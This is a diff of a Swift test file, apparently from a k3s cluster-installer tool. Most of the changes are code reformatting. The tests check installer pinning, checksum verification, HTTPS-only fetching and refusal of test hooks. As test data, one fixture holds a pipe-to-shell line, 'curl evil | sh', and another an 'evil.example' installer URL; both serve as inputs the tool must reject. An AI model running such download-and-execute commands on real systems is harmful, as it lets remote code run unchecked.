@@ -22,18 +22,24 @@ final class K3sWorld: @unchecked Sendable {
 
     func install() {
         let fm = FileManager.default
-        for (p, text, mode) in [(paths.k3sBinary, "#!/bin/sh\necho 'k3s version v1.31.4+k3s1 (a562d090)'\n", 0o755),
-                                (paths.k3sUninstallScript, "#!/bin/sh\n", 0o755),
-                                (paths.k3sKubeconfig, kubeconfigYAML(context: "default"), 0o600)] {
-            try! fm.createDirectory(atPath: (p as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
+        for (p, text, mode) in [
+            (paths.k3sBinary, "#!/bin/sh\necho 'k3s version v1.31.4+k3s1 (a562d090)'\n", 0o755),
+            (paths.k3sUninstallScript, "#!/bin/sh\n", 0o755),
+            (paths.k3sKubeconfig, kubeconfigYAML(context: "default"), 0o600)
+        ] {
+            try! fm.createDirectory(
+                atPath: (p as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
             _ = fm.createFile(atPath: p, contents: Data(text.utf8), attributes: [.posixPermissions: mode])
         }
-        try! fm.createDirectory(atPath: (paths.k3sContainerdConfig as NSString).deletingLastPathComponent, withIntermediateDirectories: true)
+        try! fm.createDirectory(
+            atPath: (paths.k3sContainerdConfig as NSString).deletingLastPathComponent, withIntermediateDirectories: true
+        )
         _ = fm.createFile(atPath: paths.k3sContainerdConfig, contents: Data("version = 2\n".utf8))
     }
 
     func handle(_ c: Command) throws -> CommandOutput {
-        lock.lock(); defer { lock.unlock() }
+        lock.lock()
+        defer { lock.unlock() }
         let a = c.argv
         if a.count == 2 && a[0] == "sh" {
             let mode = PrivateFiles.mode(a[1])
@@ -45,21 +51,31 @@ final class K3sWorld: @unchecked Sendable {
         }
         if a.first == "kubectl" && kubectlArgs(a).starts(with: ["get", "nodes"]) {
             #expect(!a.contains("--context"))
-            if apiDown { return CommandOutput(status: 1, stdout: "", stderr: "The connection to the server 127.0.0.1:6443 was refused\n") }
+            if apiDown {
+                return CommandOutput(
+                    status: 1, stdout: "", stderr: "The connection to the server 127.0.0.1:6443 was refused\n")
+            }
             return CommandOutput(status: 0, stdout: nodesJSON([("gpu-box", nodeReady)]))
         }
-        if a == [paths.k3sBinary, "--version"] { return CommandOutput(status: 0, stdout: "k3s version v1.31.4+k3s1 (a562d090)\ngo version go1.22.9\n") }
+        if a == [paths.k3sBinary, "--version"] {
+            return CommandOutput(status: 0, stdout: "k3s version v1.31.4+k3s1 (a562d090)\ngo version go1.22.9\n")
+        }
         if a == [paths.k3sUninstallScript] {
-            for p in [paths.k3sBinary, paths.k3sUninstallScript, paths.k3sKubeconfig] { try? FileManager.default.removeItem(atPath: p) }
+            for p in [paths.k3sBinary, paths.k3sUninstallScript, paths.k3sKubeconfig] {
+                try? FileManager.default.removeItem(atPath: p)
+            }
             return CommandOutput(status: 0)
         }
         if a == ["systemctl", "restart", "k3s"] {
             if restartAddsNvidia {
-                _ = FileManager.default.createFile(atPath: paths.k3sContainerdConfig, contents: Data("""
-                    version = 2
-                    [plugins."io.containerd.grpc.v1.cri".containerd.runtimes."nvidia"]
-                      runtime_type = "io.containerd.runc.v2"
-                    """.utf8))
+                _ = FileManager.default.createFile(
+                    atPath: paths.k3sContainerdConfig,
+                    contents: Data(
+                        """
+                        version = 2
+                        [plugins."io.containerd.grpc.v1.cri".containerd.runtimes."nvidia"]
+                          runtime_type = "io.containerd.runc.v2"
+                        """.utf8))
             }
             return CommandOutput(status: 0)
         }
@@ -82,7 +98,9 @@ struct K3sFixture {
         host = makeHost(scratch, runner: runner, clock: clock, uid: uid, env: env, transport: transport)
     }
 
-    func driver(_ spec: K3sInstallSpec = K3sInstallSpec(name: "platform-cluster")) -> K3sDriver { K3sDriver(host: host, spec: spec) }
+    func driver(_ spec: K3sInstallSpec = K3sInstallSpec(name: "platform-cluster")) -> K3sDriver {
+        K3sDriver(host: host, spec: spec)
+    }
     var kubeconfig: String { scratch.home + "/.aphex/clusters/platform-cluster/kubeconfig" }
 }
 
@@ -115,9 +133,14 @@ struct K3sFixture {
         // The release's own install.sh, not get.k3s.io's latest.
         #expect(f.transport.requested == ["https://raw.githubusercontent.com/k3s-io/k3s/v1.31.4%2Bk3s1/install.sh"])
         let install = try #require(f.runner.commands.first { $0.argv.first == "sh" })
-        #expect(install.argv.count == 2 && install.argv[1].hasPrefix(f.scratch.tmp + "/aphex-k3s-") && install.argv[1].hasSuffix("/install.sh"))
-        #expect(install.environment == ["INSTALL_K3S_VERSION": "v1.31.4+k3s1",
-                                        "INSTALL_K3S_EXEC": "--write-kubeconfig-mode 0600 --disable traefik"])
+        #expect(
+            install.argv.count == 2 && install.argv[1].hasPrefix(f.scratch.tmp + "/aphex-k3s-")
+                && install.argv[1].hasSuffix("/install.sh"))
+        #expect(
+            install.environment == [
+                "INSTALL_K3S_VERSION": "v1.31.4+k3s1",
+                "INSTALL_K3S_EXEC": "--write-kubeconfig-mode 0600 --disable traefik"
+            ])
         #expect(install.stdin == nil)
         let run = try #require(f.world.installerRuns.first)
         #expect(run.mode == 0o700)
@@ -126,7 +149,9 @@ struct K3sFixture {
         #expect(try FileManager.default.contentsOfDirectory(atPath: f.scratch.tmp).isEmpty)
         // kubeconfig copied with 0600, record written
         #expect(PrivateFiles.mode(f.kubeconfig) == 0o600)
-        #expect(FileManager.default.contents(atPath: f.kubeconfig) == FileManager.default.contents(atPath: f.world.paths.k3sKubeconfig))
+        #expect(
+            FileManager.default.contents(atPath: f.kubeconfig)
+                == FileManager.default.contents(atPath: f.world.paths.k3sKubeconfig))
         #expect(ClusterRecord.load(f.host, name: "platform-cluster")?.deployment == "k3s")
         #expect(ClusterRecord.load(f.host, name: "platform-cluster")?.version == "v1.31.4+k3s1")
         #expect(access.context == nil)
@@ -138,8 +163,11 @@ struct K3sFixture {
         let argv = f.runner.argvs
         // nothing installed yet: no probe read; the installer; one node read through aphex's copy
         let installer = try #require(argv.first { $0.first == "sh" })
-        #expect(argv == [installer,
-                         ["kubectl", "--kubeconfig", f.kubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"]])
+        #expect(
+            argv == [
+                installer,
+                ["kubectl", "--kubeconfig", f.kubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"]
+            ])
         #expect(f.runner.commands[0].environment["INSTALL_K3S_VERSION"] == "v1.30.8+k3s1")
         #expect(f.runner.commands[0].environment["INSTALL_K3S_EXEC"] == "--write-kubeconfig-mode 0600")
     }
@@ -147,19 +175,27 @@ struct K3sFixture {
     @Test func secondInstallIsANoOp() async throws {
         let f = K3sFixture()
         _ = try await f.driver().ensureCluster()
-        let kubeconfigBefore = try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
+        let kubeconfigBefore =
+            try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
         let recordBefore = FileManager.default.contents(atPath: ClusterRecord.path(f.host, name: "platform-cluster"))
         let n = f.runner.argvs.count
         let again = try await f.driver().ensureCluster()
         #expect(again.outcome == .reused)
         #expect(f.world.installerRuns.count == 1)
         #expect(f.transport.requested.count == 1)
-        #expect(Array(f.runner.argvs[n...]) == [
-            ["kubectl", "--kubeconfig", f.world.paths.k3sKubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"],
-            ["kubectl", "--kubeconfig", f.kubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"],
-        ])
-        #expect(try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date == kubeconfigBefore)
-        #expect(FileManager.default.contents(atPath: ClusterRecord.path(f.host, name: "platform-cluster")) == recordBefore)
+        #expect(
+            Array(f.runner.argvs[n...]) == [
+                [
+                    "kubectl", "--kubeconfig", f.world.paths.k3sKubeconfig, "get", "nodes", "-o", "json",
+                    "--request-timeout", "10s"
+                ],
+                ["kubectl", "--kubeconfig", f.kubeconfig, "get", "nodes", "-o", "json", "--request-timeout", "10s"]
+            ])
+        #expect(
+            try FileManager.default.attributesOfItem(atPath: f.kubeconfig)[.modificationDate] as? Date
+                == kubeconfigBefore)
+        #expect(
+            FileManager.default.contents(atPath: ClusterRecord.path(f.host, name: "platform-cluster")) == recordBefore)
     }
 
     @Test func unhealthyInstallIsRepairedByReRunningTheInstaller() async throws {
@@ -169,7 +205,11 @@ struct K3sFixture {
         let w = f.world
         // the installer restarts k3s: the API comes back
         let runner = RecordingRunner { c in
-            if c.argv.first == "sh" { w.lock.lock(); w.apiDown = false; w.lock.unlock() }
+            if c.argv.first == "sh" {
+                w.lock.lock()
+                w.apiDown = false
+                w.lock.unlock()
+            }
             return try w.handle(c)
         }
         let host = makeHost(f.scratch, runner: runner, clock: f.clock, uid: 0, transport: f.transport)
@@ -188,14 +228,21 @@ struct K3sFixture {
 
         let scratch = Scratch()
         let t404 = FakeTransport { _ in HTTPResponse(status: 404, body: Array("not found".utf8)) }
-        let r = RecordingRunner { c in if c.argv.first == "sh" { Issue.record("installer must not run") }; throw UnscriptedCommand(argv: c.argv) }
+        let r = RecordingRunner { c in
+            if c.argv.first == "sh" { Issue.record("installer must not run") }
+            throw UnscriptedCommand(argv: c.argv)
+        }
         let host = makeHost(scratch, runner: r, uid: 0, transport: t404)
-        let e2 = await #expect(throws: AphexError.self) { _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "x")).ensureCluster() }
+        let e2 = await #expect(throws: AphexError.self) {
+            _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "x")).ensureCluster()
+        }
         #expect(e2?.message.contains("HTTP 404") == true)
 
         let tHTML = FakeTransport { _ in HTTPResponse(status: 200, body: Array("<html>portal</html>".utf8)) }
         let host2 = makeHost(scratch, runner: r, uid: 0, transport: tHTML)
-        let e3 = await #expect(throws: AphexError.self) { _ = try await K3sDriver(host: host2, spec: K3sInstallSpec(name: "x")).ensureCluster() }
+        let e3 = await #expect(throws: AphexError.self) {
+            _ = try await K3sDriver(host: host2, spec: K3sInstallSpec(name: "x")).ensureCluster()
+        }
         #expect(e3?.message.contains("not a shell script") == true)
     }
 
@@ -210,8 +257,10 @@ struct K3sFixture {
         #expect(world.installerRuns.first?.script == installerScript)
 
         let t = FakeTransport { _ in HTTPResponse(status: 200, body: Array(installerScript.utf8)) }
-        let host2 = makeHost(Scratch(), runner: RecordingRunner { try K3sWorld(paths: HostPaths(root: "/nonexistent")).handle($0) }, uid: 0,
-                             env: ["APHEX_K3S_INSTALL_URL": "http://127.0.0.1:9/install.sh"], transport: t)
+        let host2 = makeHost(
+            Scratch(), runner: RecordingRunner { try K3sWorld(paths: HostPaths(root: "/nonexistent")).handle($0) },
+            uid: 0,
+            env: ["APHEX_K3S_INSTALL_URL": "http://127.0.0.1:9/install.sh"], transport: t)
         #expect(K3sDriver(host: host2, spec: K3sInstallSpec(name: "x")).installerURL == "http://127.0.0.1:9/install.sh")
     }
 
@@ -239,14 +288,17 @@ struct K3sFixture {
 
         // tools present, runtime not yet detected -> one restart
         let bin = Scratch()
-        for tool in ["nvidia-smi", "nvidia-container-runtime"] { bin.write(bin.root + "/bin/" + tool, "#!/bin/sh\n", mode: 0o755) }
+        for tool in ["nvidia-smi", "nvidia-container-runtime"] {
+            bin.write(bin.root + "/bin/" + tool, "#!/bin/sh\n", mode: 0o755)
+        }
         let g = K3sFixture(env: ["PATH": bin.root + "/bin:/usr/bin:/bin"])
         _ = try await g.driver(K3sInstallSpec(name: "platform-cluster", gpu: true)).ensureCluster()
         #expect(g.runner.argvs.filter { $0 == ["systemctl", "restart", "k3s"] }.count == 1)
         // runtime present -> no restart on the re-run
         _ = try await g.driver(K3sInstallSpec(name: "platform-cluster", gpu: true)).ensureCluster()
         #expect(g.runner.argvs.filter { $0 == ["systemctl", "restart", "k3s"] }.count == 1)
-        let config = String(decoding: FileManager.default.contents(atPath: g.world.paths.k3sContainerdConfig)!, as: UTF8.self)
+        let config = String(
+            decoding: FileManager.default.contents(atPath: g.world.paths.k3sContainerdConfig)!, as: UTF8.self)
         #expect(!config.contains("default_runtime_name"))
     }
 
@@ -301,13 +353,15 @@ struct K3sFixture {
 @Suite struct K3sInstallerOverLibcurlTests {
     @Test func installerIsFetchedThroughTheRealCurlTransport() async throws {
         let server = try HTTPTestServer { req in
-            req.path == "/install.sh" ? .text(200, installerScript, headers: ["Content-Type": "text/plain"]) : .text(404, "not found")
+            req.path == "/install.sh"
+                ? .text(200, installerScript, headers: ["Content-Type": "text/plain"]) : .text(404, "not found")
         }
         defer { server.stop() }
         let scratch = Scratch()
         let world = K3sWorld(paths: HostPaths(root: scratch.hostRoot))
         let runner = RecordingRunner { try world.handle($0) }
-        var host = makeHost(scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/install.sh"])
+        var host = makeHost(
+            scratch, runner: runner, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/install.sh"])
         host.makeTransport = { CurlTransport(tls: $0) }
         let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
         #expect(access.outcome == .created)
@@ -319,7 +373,8 @@ struct K3sFixture {
         let scratch2 = Scratch()
         let world2 = K3sWorld(paths: HostPaths(root: scratch2.hostRoot))
         let runner2 = RecordingRunner { try world2.handle($0) }
-        var host2 = makeHost(scratch2, runner: runner2, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/missing.sh"])
+        var host2 = makeHost(
+            scratch2, runner: runner2, uid: 0, env: ["APHEX_K3S_INSTALL_URL": server.baseURL + "/missing.sh"])
         host2.makeTransport = { CurlTransport(tls: $0) }
         let e = await #expect(throws: AphexError.self) {
             _ = try await K3sDriver(host: host2, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
@@ -334,13 +389,20 @@ struct K3sFixture {
     @Test func reuseWarnsWhenAskedFlagsDifferFromTheInstall() async throws {
         let f = K3sFixture()
         f.world.install()
-        f.scratch.write(f.world.paths.k3sServiceUnit, "[Service]\nExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--write-kubeconfig-mode' \\\n\t'0600' \\\n")
+        f.scratch.write(
+            f.world.paths.k3sServiceUnit,
+            "[Service]\nExecStart=/usr/local/bin/k3s \\\n    server \\\n\t'--write-kubeconfig-mode' \\\n\t'0600' \\\n")
         let reporter = CollectingReporter()
-        let host = makeHost(f.scratch, runner: f.runner, clock: f.clock, reporter: reporter, uid: 0, transport: f.transport)
-        let access = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster", version: "v1.32.1+k3s1", disableTraefik: true)).ensureCluster()
+        let host = makeHost(
+            f.scratch, runner: f.runner, clock: f.clock, reporter: reporter, uid: 0, transport: f.transport)
+        let access = try await K3sDriver(
+            host: host, spec: K3sInstallSpec(name: "platform-cluster", version: "v1.32.1+k3s1", disableTraefik: true)
+        ).ensureCluster()
         #expect(access.outcome == .reused)
         #expect(f.world.installerRuns.isEmpty)
-        let warnings = reporter.events.compactMap { e -> String? in if case .log(.warning, let m) = e { return m } else { return nil } }
+        let warnings = reporter.events.compactMap { e -> String? in
+            if case .log(.warning, let m) = e { return m } else { return nil }
+        }
         #expect(warnings.contains { $0.contains("--disable-traefik") })
         #expect(warnings.contains { $0.contains("v1.31.4+k3s1 is installed but --k3s-version v1.32.1+k3s1") })
     }
@@ -382,7 +444,9 @@ struct K3sFixture {
         let changed = FakeTransport { _ in HTTPResponse(status: 200, body: Array("#!/bin/sh\ncurl evil | sh\n".utf8)) }
         let host = makeHost(f.scratch, runner: f.runner, clock: f.clock, uid: 0, transport: changed)
         let runs = f.world.installerRuns.count
-        let e = await #expect(throws: AphexError.self) { _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster() }
+        let e = await #expect(throws: AphexError.self) {
+            _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
+        }
         #expect(e?.status == .failed)
         #expect(e?.message.contains("recorded \(entry.sha256)") == true)
         #expect(f.world.installerRuns.count == runs)
@@ -399,9 +463,13 @@ struct K3sFixture {
         #expect(f.world.installerRuns.isEmpty)
 
         let right = Digest.sha256Hex(Array(installerScript.utf8))
-        _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerSHA256: right.uppercased(), requirePinned: true)).ensureCluster()
+        _ = try await f.driver(
+            K3sInstallSpec(name: "platform-cluster", installerSHA256: right.uppercased(), requirePinned: true)
+        ).ensureCluster()
         #expect(f.world.installerRuns.count == 1)
-        #expect(try ManifestLock.load(path: f.scratch.home + "/.aphex/manifests.lock").entries[lockKey]?.source == "components file")
+        #expect(
+            try ManifestLock.load(path: f.scratch.home + "/.aphex/manifests.lock").entries[lockKey]?.source
+                == "components file")
     }
 
     @Test func requirePinnedRefusesAnUnpinnedInstallerBeforeDownloading() async throws {
@@ -414,15 +482,18 @@ struct K3sFixture {
         #expect(e?.message.contains("k3s-installer") == true)
         #expect(f.transport.requested.isEmpty)
         #expect(f.world.installerRuns.isEmpty)
-        #expect(f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).planEnsure()
-                    .contains { $0.summary.contains("refuse it (--require-pinned: no pin)") })
+        #expect(
+            f.driver(K3sInstallSpec(name: "platform-cluster", requirePinned: true)).planEnsure()
+                .contains { $0.summary.contains("refuse it (--require-pinned: no pin)") })
     }
 
     @Test func plainHTTPIsRefused() async throws {
         // From a components file: never.
         let f = K3sFixture()
         let e = await #expect(throws: AphexError.self) {
-            _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerURL: "http://mirror.example/install.sh")).ensureCluster()
+            _ = try await f.driver(
+                K3sInstallSpec(name: "platform-cluster", installerURL: "http://mirror.example/install.sh")
+            ).ensureCluster()
         }
         #expect(e?.status == .usage)
         #expect(e?.message.contains("only over https://") == true)
@@ -438,16 +509,20 @@ struct K3sFixture {
 
     @Test func componentsFileURLIsUsedWithItsVersion() async throws {
         let f = K3sFixture()
-        _ = try await f.driver(K3sInstallSpec(name: "platform-cluster", installerURL: "https://mirror.example/k3s/{version}/install.sh")).ensureCluster()
+        _ = try await f.driver(
+            K3sInstallSpec(name: "platform-cluster", installerURL: "https://mirror.example/k3s/{version}/install.sh")
+        ).ensureCluster()
         #expect(f.transport.requested == ["https://mirror.example/k3s/v1.31.4+k3s1/install.sh"])
     }
 
     @Test func aReleaseBuildRunningAsRootRefusesTheTestHooks() async throws {
         for hook in [["APHEX_K3S_INSTALL_URL": "https://evil.example/install.sh"], [:]] {
-            let f = K3sFixture(env: hook)   // makeHost always sets APHEX_HOST_ROOT
+            let f = K3sFixture(env: hook)  // makeHost always sets APHEX_HOST_ROOT
             var host = f.host
             host.testBuild = false
-            let e = await #expect(throws: AphexError.self) { _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster() }
+            let e = await #expect(throws: AphexError.self) {
+                _ = try await K3sDriver(host: host, spec: K3sInstallSpec(name: "platform-cluster")).ensureCluster()
+            }
             #expect(e?.status == .usage)
             #expect(e?.message.contains("APHEX_HOST_ROOT") == true)
             #expect(e?.message.contains("not honoured by a release build running as root") == true)
